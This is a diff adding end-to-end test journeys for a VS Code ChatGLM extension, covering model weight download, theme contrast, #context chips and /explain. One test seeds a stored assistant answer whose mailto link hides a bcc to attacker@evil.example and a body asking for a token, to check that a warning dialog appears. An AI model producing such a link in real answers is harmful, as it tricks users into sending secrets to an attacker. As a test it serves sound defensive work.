+    await clickSetup(chat, 'downloadWeights', 'weights');
+    // Before anything is fetched: where it goes, the free space there and the source.
+    const dialog = wb.page.locator('.monaco-dialog-box');
+    await dialog.waitFor({ timeout: 30_000 });
+    const asked = ((await dialog.textContent()) ?? '').replace(/\s+/g, ' ');
+    for (const part of ['Download ChatGLM3-6B', `Into: ${cache}`, 'Free there:', hub.endpoint, 'THUDM/chatglm3-6b at main', 'a newer snapshot than the one tested']) {
+      if (!asked.includes(part)) throw new Error(`the confirmation does not say "${part}": ${asked}`);
+    }
+    if (hub.stats.bytes !== 0) throw new Error(`${hub.stats.bytes} bytes fetched before the confirmation`);
+    await shot('download-confirm.png');
+    await dialog.locator('.monaco-button', { hasText: /^Download$/ }).click();
+    const progress = await wb.waitForNotification(/Downloading ChatGLM3-6B/, { timeout: 30_000 });
+    const status = await wb.waitForStatus(/ChatGLM: downloading \d+ %/, { timeout: 30_000 });
+    await waitForRow(chat, 'weights', 'pending', { timeout: 10_000 });
+    await shot('download-progress.png');
+    log(`      progress: ${progress} | status bar: ${status}`);
+    const ok = await waitForRow(chat, 'weights', 'ok', { timeout: 120_000 });
+    const snapshot = join(cache, 'models--THUDM--chatglm3-6b/snapshots', hub.commit);
+    if (!ok.text.includes(snapshot) || !/a newer snapshot than the one tested/.test(ok.text)) throw new Error(`weights row: ${ok.text}`);
+    const machine = JSON.parse(readFileSync(join(server.userDataDir, 'Machine/settings.json'), 'utf8'));
+    if (machine['tritonChatglm.weightsPath'] !== snapshot) throw new Error(`remote settings have weightsPath ${machine['tritonChatglm.weightsPath']}`);
+    const selected = hub.files.filter((f) => !['README.md', '.gitattributes', 'images/logo.png'].includes(f.path));
+    const total = selected.reduce((n, f) => n + f.size, 0);
+    if (hub.stats.bytes !== total) throw new Error(`the Hub served ${hub.stats.bytes} bytes for ${total}`);
+    if (!existsSync(join(snapshot, '.triton-chatglm-download.json'))) throw new Error('no manifest');
+    await wb.waitForNotification(/ChatGLM3-6B is downloaded and verified/, { timeout: 30_000 });
+    await waitFor(async () => !/ChatGLM: downloading/.test(await wb.statusBarText()), { timeout: 30_000, what: 'the download status to go' });
+    await shot('download-done.png');
+
+    // The one action: the container mounts the cache repository folder read-only, the server reads the snapshot.
+    await waitFor(async () => (await chat.locator('section.setup').getAttribute('data-phase')) === 'ready', { timeout: 60_000, what: 'the checklist to be complete' });
+    await clickSetup(chat, 'startChatglm');
+    await wb.waitForStatus(/ChatGLM: ready/, { timeout: 300_000 });
+    const [container] = runningContainers(cfg);
+    const binds = container?.HostConfig?.Binds ?? [];
+    const repoDir = join(cache, 'models--THUDM--chatglm3-6b');
+    if (!binds.includes(`${repoDir}:/weights/hub-repository:ro`)) throw new Error(`the container's binds: ${JSON.stringify(binds)}`);
+    const models = join(cfg.stateDir, 'containers', container.Id, 'models', MODEL, 'config.pbtxt');
+    if (!readFileSync(models, 'utf8').includes(`string_value: "${snapshot}"`)) throw new Error('the container reads another weights folder');
+    await ask(chat, 'Is it working?');
+    const answer = await watchAnswer(chat, 0);
+    if (!answer.text.trim()) throw new Error('no answer with the downloaded weights');
+  }, { wb: () => wb });
+  await server.stop();
+}
+
 const escape = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
 
 // ------------------------------------------------------------------------------------------------------ the stage
+
+/**
+ * Untrusted answers (issue 22): a stored answer whose mail link hides a bcc and a body. No server is needed: the
+ * conversation is written to the extension's store before the window opens, and the panel shows it as it starts.
+ */
+async function untrustedAnswerJourney(extensionsDir) {
+  const cfg = await windowConfig('untrusted');
+  const userDataDir = join(root, 'untrusted', 'user-data');
+  const storeDir = join(userDataDir, 'User', 'globalStorage', extensionId);
+  mkdirSync(storeDir, { recursive: true });
+  const now = Date.now();
+  const answer = 'Write to [team@example.com](mailto:team@example.com?bcc=attacker@evil.example&body=paste%20your%20token%20here) for access.';
+  writeFileSync(join(storeDir, 'conversations.json'), JSON.stringify({ version: 1, conversations: [{
+    id: 'untrusted-mail', title: 'Who grants access?', createdAt: now, updatedAt: now, messages: [
+      { id: 'u1', role: 'user', content: 'Who grants access?', status: 'complete', createdAt: now },
+      { id: 'a1', role: 'assistant', content: answer, status: 'complete', createdAt: now },
+    ],
+  }] }));
+  const server = await startCodeServer({ name: 'untrusted', userDataDir, extensionsDir, folder: workspace, remoteSettings: cfg.settings, env: windowEnv(cfg) });
+  let wb;
+  const current = () => wb;
+  await journey('12 untrusted answer: a mailto with a bcc asks first, naming every recipient and field', async () => {
+    wb = await Workbench.open(server, 'untrusted');
+    await wb.waitForStatus(/ChatGLM: /, { timeout: 60_000, failOn: null }); // activated: its commands are in the palette
+    const chat = await openChat(wb);
+    const link = chat.locator('article.message.assistant a[data-href^="mailto:"]');
+    await link.waitFor({ timeout: 30_000 });
+    await link.click();
+    const dialog = wb.page.locator('.monaco-dialog-box');
+    await dialog.waitFor({ timeout: 20_000 });
+    const text = (await dialog.textContent()) ?? '';
+    for (const want of ['Write an e-mail to team@example.com, attacker@evil.example?', 'To: team@example.com', 'Bcc: attacker@evil.example', 'Body: paste your token here']) {
+      if (!text.includes(want)) throw new Error(`the mail dialog does not say "${want}": ${text}`);
+    }
+    await dialog.locator('.monaco-button', { hasText: /^Cancel$/ }).click();
+    await dialog.waitFor({ state: 'hidden', timeout: 10_000 });
+  }, { wb: current });
+  await server.stop();
+}
+
+// ------------------------------------------------------------------------------------------- themes (group "theme")
+
+/** The four themes the contrast test covers (test/webview/theme-contrast.test.ts), by their settings id. */
+const CONTRAST_THEMES = [
+  { id: 'Default Light+', label: 'Light+', file: 'light-plus.json', kind: 'vscode-light' },
+  { id: 'Default Dark+', label: 'Dark+', file: 'dark-plus.json', kind: 'vscode-dark' },
+  { id: 'Default High Contrast', label: 'Dark High Contrast', file: 'dark-high-contrast.json', kind: 'vscode-high-contrast' },
+  { id: 'Default High Contrast Light', label: 'Light High Contrast', file: 'light-high-contrast.json', kind: 'vscode-high-contrast-light' },
+];
+const themeVariablesDir = join(projectRoot, 'test/webview/support/themes');
+
+/** Switches the colour theme as the user does (Preferences: Color Theme, the theme picked by its label), and waits
+ *  until the chat webview wears it. */
+async function setColorTheme(wb, chat, theme) {
+  const page = wb.page;
+  await wb.runCommand('Preferences: Color Theme');
+  const widget = page.locator('.quick-input-widget');
+  await widget.locator('.quick-input-box input').fill(theme.label);
+  const row = widget.locator('.quick-input-list .monaco-list-row', { has: page.locator('.label-name', { hasText: new RegExp(`^\\s*${escapeRegExp(theme.label)}\\s*$`) }) }).first();
+  await row.click({ timeout: 10_000 });
+  await widget.waitFor({ state: 'hidden', timeout: 10_000 }).catch(() => {});
+  await waitFor(() => chat.evaluate((kind) => document.body.classList.contains(kind)
+    && (kind !== 'vscode-high-contrast' || !document.body.classList.contains('vscode-high-contrast-light')), theme.kind),
+  { timeout: 30_000, what: `the chat webview in ${theme.id}` });
+}
+
+/** The --vscode-* variables VS Code set on the webview's root element (what every webview's CSS reads). */
+const webviewThemeVariables = (chat) => chat.evaluate(() => {
+  const style = document.documentElement.style;
+  const out = {};
+  for (let i = 0; i < style.length; i += 1) {
+    const name = style.item(i);
+    if (name.startsWith('--vscode-')) out[name] = style.getPropertyValue(name).trim();
+  }
+  return { bodyClass: document.body.className, variables: Object.fromEntries(Object.entries(out).sort(([a], [b]) => a.localeCompare(b))) };
+});
+
+async function themeJourneys(extensionsDir) {
+  const cfg = await windowConfig('theme', { 'tritonChatglm.maxNewTokens': 1024 });
+  const server = await startCodeServer({ name: 'theme', extensionsDir, folder: workspace, settings: { 'workbench.colorTheme': 'Default Light+' }, remoteSettings: cfg.settings, env: windowEnv(cfg) });
+  let wb;
+  await journey('13a theme variables of Light+, Dark+ and both high-contrast themes, as VS Code sets them in a webview', async () => {
+    wb = await Workbench.open(server, 'theme');
+    await wb.waitForStatus(/ChatGLM: stopped/);
+    const chat = await openChat(wb);
+    const dir = join(resultsDir, 'theme-variables');
+    mkdirSync(dir, { recursive: true });
+    for (const theme of CONTRAST_THEMES) {
+      await setColorTheme(wb, chat, theme);
+      // The variables follow the class in the same message; wait until two reads agree.
+      const captured = await waitFor(async () => {
+        const a = await webviewThemeVariables(chat);
+        await new Promise((r) => setTimeout(r, 300));
+        const b = await webviewThemeVariables(chat);
+        return JSON.stringify(a) === JSON.stringify(b) && Object.keys(a.variables).length > 100 && a;
+      }, { timeout: 20_000, what: `stable theme variables in ${theme.id}` });
+      const body = JSON.stringify({ theme: theme.id, source: 'code-server 4.99.4 (VS Code 1.99.3), the chat webview', ...captured }, null, 2);
+      writeFileSync(join(dir, theme.file), `${body}\n`);
+      if (process.env.E2E_UPDATE_THEME_VARIABLES === '1') {
+        mkdirSync(themeVariablesDir, { recursive: true });
+        writeFileSync(join(themeVariablesDir, theme.file), `${body}\n`);
+        log(`      updated test/webview/support/themes/${theme.file}`);
+      }
+    }
+  }, { wb: () => wb });
+  await journey('13b a chat answer in Dark High Contrast: every element readable (README picture)', async () => {
+    const chat = await openChat(wb);
+    await setColorTheme(wb, chat, CONTRAST_THEMES[2]);
+    await chat.locator('section.setup .setup-actions button.primary').click();
+    await wb.waitForStatus(/ChatGLM: ready/, { timeout: 300_000 });
+    await waitFor(async () => !(await chat.locator('section.setup').isVisible()), { timeout: 20_000, what: 'the checklist to go' });
+    await ask(chat, pictureQuestions.contrast);
+    const answer = await watchAnswer(chat, 0);
+    if (!answer.text.includes('Geometry helpers')) throw new Error(`the scripted answer reads "${answer.text.slice(0, 200)}"`);
+    // Inline code keeps the theme's preformatted colours (it vanished black on black before).
+    const code = await chat.locator('main.messages article.message.assistant .markdown td code').first()
+      .evaluate((e) => { const s = e.ownerDocument.defaultView.getComputedStyle(e); return { color: s.color, background: s.backgroundColor }; });
+    if (code.color === code.background) throw new Error(`inline code is ${code.color} on ${code.background}`);
+    await openFile(wb, SAMPLE);
+    await wb.runCommand(title('openChat'));
+    const shown = await wb.frameWith('#root main.messages article.message.assistant', { what: 'the chat panel with the answer' });
+    await shown.locator('main.messages article.message.assistant[data-status="complete"]').waitFor({ timeout: 20_000 });
+    await setSideBarWidth(wb, 460);
+    await wb.clearNotifications();
+    await shown.locator('textarea.input').focus();
+    await docScreenshot(wb, 'chat-high-contrast.png');
+  }, { wb: () => wb, needs: ['13a theme variables of Light+, Dark+ and both high-contrast themes, as VS Code sets them in a webview'] });
+  await server.stop();
+}
+
+/**
+ * `#` context and `/` commands against VS Code's own APIs (fresh window, its own git repository): the suggested
+ * current file, #symbol through the workspace symbol search (TypeScript's, for a .js file), #problems from the JSON
+ * language server's diagnostics, #changes from the Git extension's diff against HEAD, /explain; the prompt the
+ * model received holds each block in the documented layout, then the command's template and the user's words.
+ */
+async function contextJourney(extensionsDir) {
+  const dir = join(root, 'context-workspace');
+  mkdirSync(dir, { recursive: true });
+  const shapes = ['function circleArea(radius) {', '  return Math.PI * radius * radius;', '}', '', 'module.exports = { circleArea };', ''].join('\n');
+  writeFileSync(join(dir, 'shapes.js'), shapes);
+  // A comma missing after line 3: the JSON language server reports it.
+  writeFileSync(join(dir, 'config.json'), ['{', '  "name": "shapes",', '  "version": 1', '  "private": true', '}', ''].join('\n'));
+  const git = (...a) => execFileSync('git', ['-c', 'user.name=e2e', '-c', 'user.email=e2e@example.invalid', '-c', 'init.defaultBranch=main', ...a], { cwd: dir, stdio: 'pipe' });
+  git('init', '-q');
+  git('add', '.');
+  git('commit', '-qm', 'shapes');
+  writeFileSync(join(dir, 'shapes.js'), `${shapes}// changed after the commit\n`);
+  const cfg = await windowConfig('context');
+  const server = await startCodeServer({ name: 'context', extensionsDir, folder: dir, remoteSettings: cfg.settings, env: windowEnv(cfg) });
+  let wb;
+  const current = () => wb;
+  await journey('14 # context and / commands: #symbol, #problems, #changes from VS Code, /explain, the suggested current file, the meter', async () => {
+    wb = await Workbench.open(server, 'context');
+    await wb.waitForStatus(/ChatGLM: stopped/, { timeout: 60_000 });
+    await wb.runCommand(title('startChatglm'));
+    await wb.waitForStatus(/ChatGLM: ready/, { timeout: 300_000 });
+    await openFile(wb, 'shapes.js');
+    const page = wb.page;
+    // The Explorer and the chat share the side bar: showing one disposes the other's webview, so the panel's frame
+    // and its locators are taken again each time the chat is opened.
+    let chat, input, list, meter;
+    const bindChat = async () => {
+      chat = await openChat(wb);
+      input = chat.locator('textarea.input');
+      list = chat.locator('.completion-list');
+      meter = chat.locator('.token-meter');
+    };
+    await bindChat();
+    const composerChips = () => chipTexts(chat.locator('.composer .attachment-chip'));
+    // The current file is a suggestion (dashed), not an attachment; the meter shows the next request's size.
+    await chat.locator('.composer button.attachment-chip.active-file.suggested', { hasText: 'shapes.js' }).waitFor({ timeout: 30_000 });
+    await waitFor(async () => /^\d[\d,]* \/ 6,144$/.test((await meter.textContent()) ?? ''), { what: 'the token meter under the input' });
+
+    // #symbol, by the keyboard: the list, then VS Code's workspace symbol search in a quick pick.
+    await input.click();
+    await page.keyboard.type('#sym');
+    await list.waitFor({ state: 'visible', timeout: 10_000 });
+    if ((await input.getAttribute('aria-expanded')) !== 'true' || (await input.getAttribute('aria-activedescendant')) !== await list.locator('[role="option"]').first().getAttribute('id')) {
+      throw new Error('the input does not own the open list as a combobox');
+    }
+    await page.keyboard.press('Enter');
+    const picker = page.locator('.quick-input-widget');
+    const pickInput = picker.locator('.quick-input-box input');
+    await pickInput.waitFor({ timeout: 10_000 });
+    const row = picker.locator('.quick-input-list .monaco-list-row', { hasText: 'circleArea' }).first();
+    // TypeScript indexes the file after it opened: search again until it answers.
+    await waitFor(async () => {
+      if (await row.isVisible()) return true;
+      await pickInput.fill('circleAre');
+      await pickInput.fill('circleArea');
+      await new Promise((r) => setTimeout(r, 1_500));
+      return row.isVisible();
+    }, { timeout: 90_000, interval: 500, what: 'circleArea in the workspace symbol search' });
+    await row.click();
+    await chat.locator('.composer .attachment-chip[data-kind="symbol"]').waitFor({ timeout: 15_000 });
+
+    // #problems, with the mouse: the diagnostics of config.json once the JSON language server has reported them.
+    await openFile(wb, 'config.json');
+    await waitFor(async () => /[1-9]/.test((await page.locator('.statusbar-item[id="status.problems"]').textContent().catch(() => '')) ?? ''),
+      { timeout: 60_000, what: 'the JSON problem in the status bar' });
+    await bindChat();
+    await input.click();
+    await page.keyboard.type('#');
+    await list.locator('[data-value="#problems"]').click();
+    await chat.locator('.composer .attachment-chip[data-kind="problems"]').waitFor({ timeout: 15_000 });
+
+    // #changes, by Tab.
+    await input.click();
+    await page.keyboard.type('#ch');
+    await list.locator('[data-value="#changes"]').waitFor({ timeout: 10_000 });
+    await page.keyboard.press('Tab');
+    await chat.locator('.composer .attachment-chip[data-kind="changes"]').waitFor({ timeout: 60_000 });
+    const chips = await composerChips();
+    if (JSON.stringify(chips.map((c) => c.replace(/\s+/g, ' '))) !== JSON.stringify(['config.jsoncurrent file — click to attach', 'circleArea:1-3', 'config.json problems', 'Changes'])) {
+      throw new Error(`chips above the input: ${JSON.stringify(chips)}`);
+    }
+    // Each attached chip shows its estimated tokens on itself.
+    const figures = await chat.locator('.composer .attachment-chip .chip-tokens').allTextContents();
+    if (figures.length !== 3 || !figures.every((f) => /^[1-9][\d,]*$/.test(f))) throw new Error(`token figures on the chips: ${JSON.stringify(figures)}`);
+    if ((await input.inputValue()) !== '') throw new Error(`the #words stayed in the input: ${JSON.stringify(await input.inputValue())}`);
+    await shot(wb, 'chat-context-chips.png');
+
+    // /explain, then the user's words; the model receives the template.
+    await page.keyboard.type('/ex');
+    await page.keyboard.press('Enter');
+    if ((await input.inputValue()) !== '/explain ') throw new Error(`after /ex + Enter the input holds ${JSON.stringify(await input.inputValue())}`);
+    await page.keyboard.type('briefly');
+    const n = await assistantArticles(chat).count();
+    await page.keyboard.press('Enter');
+    await watchAnswer(chat, n);
+    const line = await waitFor(() => promptLogLines(cfg).find((l) => lastUserMessage(l)?.content?.endsWith('briefly')),
+      { timeout: 10_000, what: 'the /explain question in the engine prompt log' });
+    const got = lastUserMessage(line).content;
+    const template = 'Explain the attached code: what it does, step by step, its inputs and outputs, and anything surprising in it.';
+    const checks = [
+      ['the symbol block', got.startsWith('Symbol: circleArea in shapes.js (lines 1-3)\n```javascript\nfunction circleArea(radius) {\n  return Math.PI * radius * radius;\n}\n```\n\n')],
+      ['the problems block', /\n\nProblems: config\.json\n```text\nline [34]: error: [^\n]+\n {4}"(version|private)": [^\n]+\n```\n\n/.test(got)],
+      ['the changes block', /\n\nChanges: context-workspace \(working tree against HEAD\)\n```diff\ndiff --git a\/shapes\.js b\/shapes\.js\n[\s\S]*\n\+\/\/ changed after the commit\n```\n\n/.test(got)],
+      ['the template and the words', got.endsWith(`\n\n${template}\n\nbriefly`)],
+      ['the current file not sent', !got.includes('File: config.json')],
+    ];
+    const failed = checks.filter(([, ok]) => !ok).map(([what]) => what);
+    if (failed.length) throw new Error(`the prompt lacks ${failed.join(', ')}: ${JSON.stringify(got.slice(0, 1200))}`);
+    // The transcript shows the command as typed, with its chips.
+    const question = chat.locator('main.messages article.message.user').last();
+    const typed = ((await question.locator('.message-body').textContent()) ?? '').trim();
+    if (typed !== '/explain briefly') throw new Error(`the transcript shows ${JSON.stringify(typed)}`);
+    const sent = await chipTexts(question.locator('.attachment-chip'));
+    if (JSON.stringify(sent.map((c) => c.replace(/\s+/g, ' '))) !== JSON.stringify(['circleArea:1-3', 'config.json problems', 'Changes'])) throw new Error(`chips with the question: ${JSON.stringify(sent)}`);
+  }, { wb: current });
+  await server.stop();
+}
 
 async function main() {
   mkdirSync(resultsDir, { recursive: true });
@@ -1250,7 +1742,7 @@ async function main() {
   log(`run directory ${root}`);
   const only = typeof args.only === 'string' ? args.only : '';
   const want = (...keys) => !only || keys.some((k) => only === k || only.startsWith(k));
-  const ui = want('1', '2', '3', '4', '5', '6', '7', 'main', '8', 'failures', '9', 'zh', '10', 'setup');
+  const ui = want('1', '2', '3', '4', '5', '6', '7', 'main', '8', 'failures', '9', 'zh', '10', 'setup', 'untrusted', 'edit', 'theme', 'context', 'download');
   const desktopSuite = want('extension-host') && process.env.E2E_VSCODE;
   if (ui || !desktopSuite) codeServerBin(); // fails early with the install hint
   let vsix, extensionsDir;
@@ -1264,6 +1756,11 @@ async function main() {
   if (want('8', 'failures')) await failureJourneys(extensionsDir);
   if (want('9', 'zh')) await chineseJourney(vsix);
   if (want('10', 'setup')) await setupJourney(extensionsDir);
+  if (want('untrusted')) await untrustedAnswerJourney(extensionsDir);
+  if (want('edit')) await editJourneys(extensionsDir);
+  if (want('theme')) await themeJourneys(extensionsDir);
+  if (want('context')) await contextJourney(extensionsDir);
+  if (want('download')) await downloadJourney(extensionsDir);
   if (want('extension-host')) {
     const cfg = await windowConfig('exthost');
     const r = await runExtensionHostSuite({ cfg, env: windowEnv(cfg), folder: workspace, dir: join(root, 'exthost') });
